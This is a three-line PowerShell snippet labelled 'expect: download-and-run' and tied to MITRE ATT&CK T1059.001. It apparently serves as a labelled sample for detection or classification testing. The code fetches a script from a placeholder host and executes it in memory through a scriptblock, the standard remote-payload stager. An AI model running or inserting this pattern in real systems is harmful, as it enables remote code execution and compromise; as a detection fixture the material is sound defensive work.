# expect: download-and-run | source: MITRE ATT&CK T1059.001
$c = [System.Net.Http.HttpClient]::new()
[scriptblock]::Create($c.GetStringAsync('http://files.example.invalid/stage').Result).Invoke()
